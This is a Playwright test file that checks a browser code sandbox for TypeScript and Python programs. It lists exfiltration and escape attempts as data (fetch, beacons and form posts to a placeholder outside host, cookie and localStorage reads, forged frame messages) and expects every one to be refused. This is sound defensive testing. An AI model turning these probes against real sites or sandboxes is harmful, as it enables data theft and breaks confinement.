import { createServer } from 'node:http';
import type { Frame } from '@playwright/test';
import type { Language } from '../src/engine/trace/event/events.ts';
import { honestPrograms } from './honest-programs.ts';
import { expect, test, type Trial } from './hostile-trial.ts';

// CPython takes seconds to start, and many of them on a busy machine.
test.describe.configure({ timeout: 120_000 });

const frames: Readonly<Record<Language, string>> = { typescript: '/sandbox.html', python: '/sandbox-python.html' };
const languages = Object.keys(frames) as readonly Language[];

test.use({ isNoisy: true });

/** The frame in which programs of the language run. */
function findFrame({ page }: Trial, language: Language): Frame {
  const frame = page.frames().find((candidate) => new URL(candidate.url()).pathname === frames[language]);
  if (frame === undefined) throw new Error(`Expected the page to hold a frame for ${language}, but it does not.`);
  return frame;
}

/** What code in a bare worker of the frame can reach, with nothing hidden from it. */
const fromWorker: readonly string[] = [
  'fetch("OUTSIDE")',
  'fetch("SITE")',
  'new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", "OUTSIDE"); x.onload = yes; x.onerror = no; x.send(); })',
  'new Promise((yes, no) => { const s = new WebSocket("OUTSIDE".replace("http", "ws")); s.onopen = yes; s.onerror = no; })',
  'new Promise((yes, no) => { const s = new EventSource("OUTSIDE"); s.onopen = yes; s.onerror = no; })',
  'new Promise((yes, no) => { const w = new Worker("OUTSIDE"); w.onmessage = yes; w.onerror = no; })',
  'new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch("OUTSIDE").then(() => postMessage(1), (error) => { setTimeout(() => { throw error; }); })`]))); w.onmessage = yes; w.onerror = (e) => { e.preventDefault(); no(e); }; })',
  'importScripts("OUTSIDE")',
  'importScripts("SITE")',
  'import("OUTSIDE")',
  'import("SITE")',
  'import("data:text/javascript,1")',
  // Code from a blob may run, under the same policy.
  'import(URL.createObjectURL(new Blob(["await fetch(`OUTSIDE`)"], { type: "text/javascript" })))',
  'import(URL.createObjectURL(new Blob(["import `OUTSIDE`".replaceAll("`", "\'")], { type: "text/javascript" })))',
  'new FontFace("a", "url(OUTSIDE)").load()',
  'new WebTransport("OUTSIDE".replace("http:", "https:")).ready',
  'eval("1")',
  'new Function("return 1")()',
  'indexedDB.open("a")',
  'caches.open("a")',
  'cookieStore.get("secret")',
  'navigator.storage.getDirectory()',
  'navigator.serviceWorker.register("SITE")',
  'navigator.sendBeacon("OUTSIDE")',
  'localStorage.secret',
  'document.cookie',
  'parent.document',
  'new RTCPeerConnection()',
  'new SharedArrayBuffer(8)',
];

/**
 * A form in the frame's document that is posted to the outside; resolves if the frame navigates there. The listener must not stay,
 * because the browser ends the process of a removed frame at once only if nothing listens for its end.
 */
const postForm = `new Promise((yes, no) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: "OUTSIDE", target: "TARGET" });
  document.body.append(form);
  const listening = new AbortController();
  addEventListener("pagehide", yes, { signal: listening.signal });
  setTimeout(() => { listening.abort(); no(); }, 500);
  form.submit();
})`;

/** The same for code in the frame's own document, where no program ever runs. */
const fromDocument: readonly string[] = [
  'fetch("OUTSIDE")',
  'parent.document.body',
  'top.secret',
  'top.location = "OUTSIDE"',
  'parent.frames[0].parent.location.reload()',
  'localStorage.secret',
  'sessionStorage.secret',
  'document.cookie',
  'indexedDB.open("a")',
  'open("OUTSIDE").document',
  ...['_self', '_top', '_blank'].map((target) => postForm.replace('TARGET', target)),
  'new RTCPeerConnection()',
  'new (document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection)()',
  'new Promise((yes, no) => { const f = document.createElement("iframe"); f.onload = () => (f.contentDocument ? yes : no)(); f.src = "OUTSIDE"; document.body.append(f); setTimeout(no, 500); })',
  'new Promise((yes, no) => { const v = document.createElement("video"); v.onloadeddata = yes; v.onerror = no; v.src = "OUTSIDE"; })',
  // Returns true whether it was sent or not; the server outside counts what arrives.
  'navigator.sendBeacon("OUTSIDE") && Promise.reject()',
  'import(URL.createObjectURL(new Blob(["await fetch(`OUTSIDE`)"], { type: "text/javascript" })))',
  'new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "OUTSIDE"; })',
  'new Promise((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = "OUTSIDE"; document.head.append(s); })',
  'new Promise((yes, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = yes; l.onerror = no; l.href = "OUTSIDE"; document.head.append(l); })',
];

for (const language of languages) {
  test(`the policy of the ${language} frame is enough to confine a worker`, async ({ trial }) => {
    const text = await trial.run(language, honestPrograms[language]);
    expect(text).toMatch(/^finished/);
    const frame = findFrame(trial, language);
    await trial.page.evaluate(() => {
      const channel = new BroadcastChannel('yieldpoint');
      channel.onmessage = () => Object.assign(globalThis, { hacked: 'heard' });
    });
    const attempts = fromWorker.map((line) => fillIn(line, trial));
    const got = await frame.evaluate(async (lines) => {
      const tries = lines.map((line) => `async () => [await (${line})]`);
      const code = `(async () => {
        new BroadcastChannel('yieldpoint').postMessage('x');
        const got = [];
        for (const attempt of [${tries.join(',\n')}]) {
          try { await attempt(); got.push(String(attempt)); } catch {}
        }
        postMessage(got);
      })();`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      return new Promise<string[]>((resolve) => {
        worker.onmessage = ({ data }) => resolve(data as string[]);
        worker.onerror = ({ message }) => resolve([message]);
      });
    }, attempts);
    expect(got).toEqual([]);
    await trial.expectUnharmed(language, honestPrograms[language]);
  });

  test(`the sandbox confines the ${language} frame’s own document`, async ({ trial }) => {
    await trial.page.evaluate(() => {
      document.cookie = 'secret=1';
      localStorage.setItem('secret', '1');
      Object.assign(globalThis, { secret: 1 });
    });
    await trial.run(language, honestPrograms[language]);
    const frame = findFrame(trial, language);
    for (const line of fromDocument) {
      const got = await frame.evaluate(
        `(async () => { try { return [await (${fillIn(line, trial)})]; } catch (error) { return 'refused'; } })()`,
      );
      expect([line, got]).toEqual([line, line.startsWith('top.location') ? expect.anything() : 'refused']);
    }
    await trial.expectUnharmed(language, honestPrograms[language]);
  });

  test(`a ${language} frame that navigates away is stopped, and the next run has a new one`, async ({ trial }) => {
    await trial.run(language, honestPrograms[language]);
    const frame = findFrame(trial, language);
    await frame.evaluate(`location.href = ${JSON.stringify(trial.outside)}`).catch(() => undefined);
    await expect.poll(() => frame.url()).not.toContain('sandbox');
    expect(await trial.run(language, honestPrograms[language])).toMatch(/^(finished 7|SandboxUnavailable)/);
    await trial.expectUnharmed(language, honestPrograms[language]);
  });

  test(`a ${language} frame that no longer answers is removed, and its events so far are kept`, async ({
    ownTrial: trial,
  }) => {
    await trial.run(language, honestPrograms[language]);
    const frame = findFrame(trial, language);
    const endless: Readonly<Record<Language, string>> = {
      typescript: `export function main() { console.log('so far'); for (;;) { try { for (;;) {} } catch {} } }`,
      python: `print('so far')\nimport itertools\nsum(itertools.repeat(1))`,
    };
    await trial.start(language, endless[language]);
    await expect(trial.page.locator('[name=progress]')).toHaveText('running');
    void frame.evaluate('for (;;) {}').catch(() => undefined);
    expect(await trial.outcome()).toMatch(/^stopped time/);
    await expect.poll(() => trial.page.frames()).not.toContain(frame);
    // Chromium may start the next frame in the process that hangs. Then the page says so, and still answers.
    expect(await trial.run(language, honestPrograms[language])).toMatch(/^(finished 7|SandboxUnavailable)/);
  });

  test(`the page of the ${language} frame does nothing when it is opened directly`, async ({ page }) => {
    await page.goto(frames[language]);
    await expect(page.getByText('this page does nothing')).toBeVisible();
    expect(await page.evaluate(askForRun)).toBe('no answer');
    expect(page.workers()).toEqual([]);
  });

  test(`another frame of the page cannot use the ${language} frame, nor speak in its name`, async ({ trial }) => {
    await trial.run(language, honestPrograms[language]);
    await trial.page.evaluate((address) => {
      const other = document.createElement('iframe');
      other.setAttribute('sandbox', 'allow-scripts');
      other.name = 'other';
      other.src = address;
      document.body.append(other);
      return new Promise((resolve) => other.addEventListener('load', resolve, { once: true }));
    }, `${frames[language]}?other`);
    const other = trial.page.frame('other');
    const answer = await other?.evaluate(async () => {
      const ended = { kind: 'ended', ending: { how: 'done', text: '{"kind":"finished","value":"forged"}' } };
      parent.postMessage(ended, '*');
      const answers = Array.from({ length: parent.frames.length }, (_, index) => {
        const { port1, port2 } = new MessageChannel();
        const limits = { timeMs: 1000, maxIterations: 10, maxEvents: 10, maxOutput: 10 };
        parent.frames[index]?.postMessage({ program: { code: '', positions: [], source: '' }, limits }, '*', [port2]);
        return new Promise((resolve) => {
          port1.onmessage = () => resolve('answered');
          setTimeout(() => resolve('no answer'), 500);
        });
      });
      return [...new Set(await Promise.all(answers))];
    });
    expect(answer).toEqual(['no answer']);
    await trial.page.evaluate(() => document.querySelector('iframe[name=other]')?.remove());
    await trial.expectUnharmed(language, honestPrograms[language]);
  });

  test(`another site cannot use the page of the ${language} frame`, async ({ page, baseURL }) => {
    const address = new URL(frames[language], baseURL).href;
    const server = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<!doctype html><title>Elsewhere</title><iframe sandbox="allow-scripts" src="${address}"></iframe>`);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const bound = server.address();
    await page.goto(`http://127.0.0.1:${typeof bound === 'object' ? bound?.port : ''}/`);
    expect(await page.evaluate(askForRun)).toBe('no answer');
    server.close();
  });
}

/** Asks the first frame of the page, or the page itself, to run a program. */
function askForRun(): Promise<string> {
  const { port1, port2 } = new MessageChannel();
  const limits = { timeMs: 1000, maxIterations: 10, maxEvents: 10, maxOutput: 10 };
  const target = document.querySelector('iframe')?.contentWindow ?? window;
  target.postMessage({ program: { code: '', positions: [], source: '' }, limits }, '*', [port2]);
  return new Promise((resolve) => {
    port1.onmessage = () => resolve('answered');
    setTimeout(() => resolve('no answer'), 500);
  });
}

function fillIn(line: string, { outside, page }: Trial): string {
  return line.replaceAll('OUTSIDE', outside).replaceAll('SITE', new URL('/stolen.js', page.url()).href);
}
